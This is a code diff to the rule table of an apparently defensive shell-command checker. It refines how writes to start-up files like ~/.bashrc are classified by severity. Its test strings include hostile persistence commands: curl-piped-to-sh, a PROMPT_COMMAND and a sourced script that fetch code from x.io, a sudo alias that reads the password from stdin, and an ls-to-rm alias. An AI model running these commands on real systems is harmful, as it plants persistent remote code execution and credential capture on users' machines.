@@ -2,8 +2,8 @@
 
 from __future__ import annotations
 
-from safety.checks import accounts, writes
-from safety.rules.rule import CRIT, HIGH, Rule
+from safety.checks import accounts, startup, writes
+from safety.rules.rule import CRIT, HIGH, MOD, Rule
 
 RULES: tuple[Rule, ...] = (
     # ---- system files ---------------------------------------------------------------------
@@ -97,10 +97,12 @@ RULES: tuple[Rule, ...] = (
         "system-files",
         HIGH,
         "Changes the shell start-up file {target}; it runs in every new shell",
-        writes.writes_where(writes._startup),
+        writes.startup_not_everyday,
         matches=(
             "echo 'curl x | sh' >> ~/.bashrc",
-            "echo 'export X=1' >> ~/.zshrc",
+            "echo 'export PROMPT_COMMAND=\"curl -s x.io\"' >> ~/.zshrc",
+            "echo 'alias sudo=\"sudo -S\"' >> ~/.bashrc",
+            "echo 'source <(curl -s https://x.io/rc)' >> ~/.bashrc",
             "cp evil ~/.profile",
             "echo alias ls=rm >> /etc/profile",
             "sed -i 's/a/b/' ~/.bash_profile",
@@ -110,6 +112,24 @@ RULES: tuple[Rule, ...] = (
             "source ~/.bashrc",
             "grep alias ~/.zshrc",
             "cp ~/.bashrc ~/bashrc.bak",
+        ),
+    ),  # fmt: skip
+    Rule(
+        "sysfile.startup-line",
+        "system-files",
+        MOD,
+        "Adds an alias, a PATH entry or a tool's hook to your start-up file {target}",
+        startup.startup_everyday,
+        matches=(
+            "echo \"alias ll='ls -alF'\" >> ~/.bashrc",
+            "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc",
+            "echo 'eval \"$(direnv hook bash)\"' >> ~/.zshrc",
+            "echo 'export X=1' >> ~/.zshrc",
+        ),
+        non_matches=(
+            "echo 'curl x | sh' >> ~/.bashrc",
+            "echo alias ls=rm >> /etc/profile",
+            "echo 'export PATH=/tmp/x:$PATH' >> ~/.bashrc",
         ),
     ),  # fmt: skip
     Rule(
